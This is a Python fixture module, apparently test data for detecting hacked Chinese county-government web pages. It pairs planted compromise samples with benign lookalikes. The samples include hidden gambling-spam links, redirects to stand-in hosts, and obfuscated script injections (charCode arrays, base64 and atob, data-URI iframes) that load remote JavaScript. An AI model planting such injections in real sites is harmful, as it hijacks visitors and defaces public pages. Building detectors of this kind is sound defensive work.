"""A second planted set: how pages of county governments look after a break-in, each beside what honest pages do in nearly the same way."""

import base64
from collections.abc import Iterator
from typing import NamedTuple


class Hacked(NamedTuple):
    """Parts of a page: `head` and `body` within it, `before` ahead of it, `tail` behind its end; `title` where it is another than the site's."""

    name: str
    kinds: frozenset[str] = frozenset()
    body: str = ""
    head: str = ""
    tail: str = ""
    title: str | None = None
    before: str = ""


def _in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _codes(text: str, sign: str = ",") -> str:
    return sign.join(str(ord(letter)) for letter in text)


_SHOES = '<a href="http://www.pifa-xie.example/">运动鞋批发</a>'
_BET = '<a href="http://www.tz7788.example/">真人百家乐</a>'
_AWAY = "http://go.lailu.example:9981/?from=gov"
_SHOPS = "".join(
    f'<a href="http://www.{name}.example/">{words}</a>'
    for name, words in (
        ("huojia", "货架厂家"),
        ("kongtiao", "空调移机"),
        ("zhensuo", "男科诊所"),
        ("liuxue", "留学中介"),
    )
)
_INNER = (
    f"<html><head><title>通知</title></head><body><p>内嵌的正文。</p></body></html><p>合作单位：{_SHOES}</p>"
)


def bad() -> Iterator[Hacked]:
    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
    # between two ends of the page, and in what only readers without scripts get
    yield Hacked("between two ends", hidden, tail=f"<div>{_SHOES}</div></html>")
    yield Hacked(
        "words between two ends", hidden, tail="<p>线上百家乐 老虎机平台 注册送彩金</p></body></html>"
    )
    yield Hacked("betting in noscript", hidden, body=f"<noscript>{_BET}</noscript>")
    yield Hacked("shops in noscript", hidden, body=f"<noscript><div>{_SHOPS}</div></noscript>")
    # what runs by itself without a script element
    yield Hacked("image that fails on purpose", away, body=f"<img src=x onerror=\"location.href='{_AWAY}'\">")
    yield Hacked("drawing that loads", away, body=f"<svg onload=\"window.location='{_AWAY}'\"></svg>")
    yield Hacked(
        "script as data",
        away,
        body=f'<script src="data:text/javascript;base64,{_in_base64(f"top.location={_AWAY!r};")}"></script>',
    )
    yield Hacked(
        "frame as data",
        script,
        body=f'<iframe width="1" height="1" src="data:text/html;base64,{_in_base64("<script src=http://js.qp99.example/x.js></script>")}"></iframe>',
    )
    yield Hacked(
        "frame with its own source",
        script,
        body="<iframe style='display:none' srcdoc=\"&lt;script src='http://js.qp99.example/x.js'&gt;&lt;/script&gt;\"></iframe>",
    )
    yield Hacked(
        "refresh with blanks", away, head=f'<meta content="1; url=\'{_AWAY}\'" http-equiv = "Refresh" >'
    )
    yield Hacked("base of a stranger", away, head='<base href="http://cdn.jingxiang.example/">')
    # scripts in disguise
    yield Hacked(
        "codes one by one",
        script,
        body=f"<script>var k=[{_codes('<script src=http://js.qp99.example/x.js><')}];var o='';for(i in k)o+=String.fromCharCode(k[i]);document.write(o);</script>",
    )
    yield Hacked(
        "base64 kept in a variable",
        script,
        body=f"<script>var _0x='{_in_base64('<script src=http://js.qp99.example/x.js></script>')}';document.write(window.atob(_0x));</script>",
    )
    yield Hacked(
        "address put together",
        away,
        body="<script>var a='http://';var b='www.bo'+'cai8.example';if(document.referrer.length>0){setTimeout(function(){location.href=a+b+'/r';},1500)}</script>",
    )
    yield Hacked(
        "reversed address",
        away,
        body="<script>location.href='elpmaxe.iacob.www//:ptth'.split('').reverse().join('');</script>",
    )
    yield Hacked(
        "entities in an address",
        hidden,
        body="<div style='display:none'><a href='&#104;&#116;&#116;&#112;&#58;//www.tz7788.example/'>&#30334;&#23478;&#20048;&#24179;&#21488;</a></div>",
    )
    # hidden in other ways
    yield Hacked(
        "far to the right", hidden, body=f'<div style="position:absolute;left:19999px">{_SHOES}</div>'
    )
    yield Hacked("font of nothing", hidden, body=f'<div style="font:0/0 a">{_SHOES}</div>')
    yield Hacked("letters without colour", hidden, body=f'<span style="color:transparent">{_SHOES}</span>')
    yield Hacked("colour without ground", hidden, body=f'<div style="color:rgba(0,0,0,0)">{_SHOES}</div>')
    yield Hacked(
        "white on the page",
        hidden,
        head="<style>body{background:#fff}.x1 a{color:#fefefe}</style>",
        body=f'<div class="x1">{_SHOES}</div>',
    )
    yield Hacked(
        "below everything",
        hidden,
        body=f'<div style="position:fixed;z-index:-9999;top:0;left:0">{_SHOPS}</div>',
    )
    yield Hacked("filter", hidden, body=f'<div style="filter:opacity(0)">{_SHOES}</div>')
    yield Hacked("turned on its edge", hidden, body=f'<div style="transform:rotateX(90deg)">{_SHOES}</div>')
    yield Hacked(
        "style sheet in the body",
        hidden,
        body=f"<style>@charset 'utf-8';\n.fr5 {{ height : 0 ; overflow : hidden }}</style><div class='fr5'>{_SHOES}</div>",
    )
    yield Hacked(
        "marquee one pixel high",
        hidden,
        body=f'<marquee direction="up" height="1px" scrollamount="9000">{_SHOES}</marquee>',
    )
    # titles and texts
    yield Hacked(
        "keywords of a casino",
        spam,
        head='<meta content="乐鱼体育,米乐体育app官网,星空体育" name="Keywords">',
    )
    yield Hacked("title with the site's name last", spam, title="開云體育(中國)官方網站_青田县人民政府")
    yield Hacked("title split by signs", spam, title="百★家★乐官网-真·人·荷·官_青田县")
    yield Hacked(
        "sentence with a brand",
        spam,
        body="<p>各镇要做好春耕备耕，乐鱼体育官网入口加强农资供应，确保不误农时。</p>",
    )


def innocent() -> Iterator[Hacked]:
    yield Hacked("page within the page", body=_INNER)
    yield Hacked(
        "three documents in a row",
        tail='<html><body><p>版权所有 青田县人民政府 技术支持：<a href="http://www.jishu.example/">某某科技</a></p></body></html>',
    )
    yield Hacked(
        "end written by a print script",
        body="<script>function dy(){var w=window.open('');w.document.write('<html><body>'+nr.innerHTML+'</body></html>');}</script><p>合作单位："
        + _SHOES
        + "</p>",
    )
    yield Hacked("end in a comment", body=f"<!-- </body></html> --><p>合作单位：{_SHOES}</p>")
    yield Hacked(
        "conditional comments",
        head="<!--[if lt IE 9]><script src='http://cdn.bujian.example/html5shiv.js'></script><![endif]-->",
        body="<!--[if IE]><p><a href='http://www.liulanqi.example/'>升级浏览器</a></p><![endif]-->",
    )
    yield Hacked(
        "advice without scripts",
        body="<noscript><p>请启用脚本，或改用<a href='http://www.liulanqi.example/'>推荐的浏览器</a></p></noscript>",
    )
    yield Hacked(
        "refresh without scripts",
        head="<noscript><meta http-equiv='refresh' content='0;url=/nojs.html'></noscript>",
    )
    yield Hacked(
        "image with a spare", body="<img src='/a.jpg' onerror=\"this.src='/nopic.jpg';this.onerror=null\">"
    )
    yield Hacked(
        "body that begins",
        body="<div onload=\"init()\"></div><script>window.onload=function(){tab(1);location.hash='#top'}</script>",
    )
    yield Hacked("picture as data", body=f"<img src='data:image/png;base64,{_in_base64('PNG' * 20)}'>")
    yield Hacked(
        "drawing in a frame as data",
        body=f'<iframe src="data:text/html;base64,{_in_base64("<p>加载中</p>")}"></iframe>',
    )
    yield Hacked("own base", head='<base href="http://www.qingtian.gov.cn/zwgk/" target="_blank">')
    yield Hacked("base of the test machine", head='<base href="http://192.168.10.6:8080/">')
    yield Hacked("base of a target only", head='<base target="_blank">')
    yield Hacked(
        "codes for blanks",
        body=f"<script>var t=String.fromCharCode({_codes('　— 　')});document.write(t);</script>",
    )
    yield Hacked(
        "base64 of a picture",
        body=f"<script>var p='data:image/gif;base64,{_in_base64('GIF89a' * 9)}';img.src=p;</script>",
    )
    yield Hacked(
        "own address put together",
        body="<script>var h='http://';var d='www.qingtian'+'.gov.cn';document.getElementById('back').onclick=function(){location.href=h+d+'/';}</script>",
    )
    yield Hacked(
        "dialog of a partner",
        body=f'<div class="dialog" style="position:fixed;z-index:-1;opacity:0"><p>您即将离开本站</p>{_SHOES}</div>',
    )
    yield Hacked(
        "picture behind the text",
        body='<div style="position:absolute;z-index:-1;top:0"><img src="/bg.jpg" alt=""></div>',
    )
    yield Hacked(
        "no gap between pictures",
        body='<div class="pics" style="font-size:0"><a href="http://www.wenlv.example/"><img src="/w.jpg" alt="文旅集团"></a><a href="http://www.gongjiao.example/"><img src="/g.jpg" alt="公交集团"></a></div>',
    )
    yield Hacked(
        "no gap between links",
        head="<style>.lk{font-size:0}.lk a{font-size:14px}</style>",
        body=f'<div class="lk">{_SHOES}{_SHOPS}</div>',
    )
    yield Hacked(
        "white in the footer",
        head="<style>.ft a{color:#fff}</style>",
        body=f'<div class="ft" style="background-image:linear-gradient(#003a7a,#0056b3)">{_SHOES}</div>',
    )
    yield Hacked(
        "white on a picture of a class",
        head="<style>body{background:#fff}.bn{background:url(/b.png) no-repeat}.bn a{color:#fff}</style>",
        body=f'<div class="bn">{_SHOES}</div>',
    )
    yield Hacked(
        "covered until it is wanted",
        head="<style>.qr img{position:absolute;left:-999px}.qr:hover img{left:0}</style>",
        body='<div class="qr"><a href="http://www.rongmei.example/"><img src="/q.png" alt="融媒体"></a></div>',
    )
    yield Hacked(
        "faded in later",
        head="<style>.fade{opacity:0;transition:opacity 1s}.fade.in{opacity:1}</style>",
        body=f'<div class="fade">{_SHOES}</div>',
    )
    yield Hacked(
        "shown on large screens",
        head="<style>.pc{display:none}@media (min-width:800px){.pc{display:block}}</style>",
        body=f'<div class="pc">{_SHOPS}</div>',
    )
    yield Hacked(
        "scrolling notice",
        body='<marquee direction="up" height="180" scrollamount="2"><a href="http://www.rongmei.example/">融媒体直播</a></marquee>',
    )
    yield Hacked(
        "sports news",
        title="青田县举办全民健身体育大会_体育彩票公益金资助项目_青田县人民政府",
        head='<meta name="keywords" content="体育,电竞,成人教育,娱乐场所管理,开云街道">',
    )
    yield Hacked(
        "a brand's namesakes",
        body="<p>乐鱼湾社区、开云街道和米乐幼儿园开展体育活动，金沙江路、银河路、永利村沿线环境整治。</p>",
    )
    yield Hacked("crime told in a title", title="县公安局破获一起网络赌博案 打掉百家乐平台3个_青田县人民政府")
    yield Hacked(
        "codes for a title's signs",
        title="&#8220;&#26032;&#26149;&#36208;&#22522;&#23618;&#8221;&#38738;&#30000;&#21439;&#24180;&#36135;&#33410;",
    )
    yield Hacked(
        "frame of a map",
        body='<iframe srcdoc="&lt;p&gt;地图加载中&lt;/p&gt;" src="http://ditu.weizhi.example/qingtian" width="100%" height="400"></iframe>',
    )
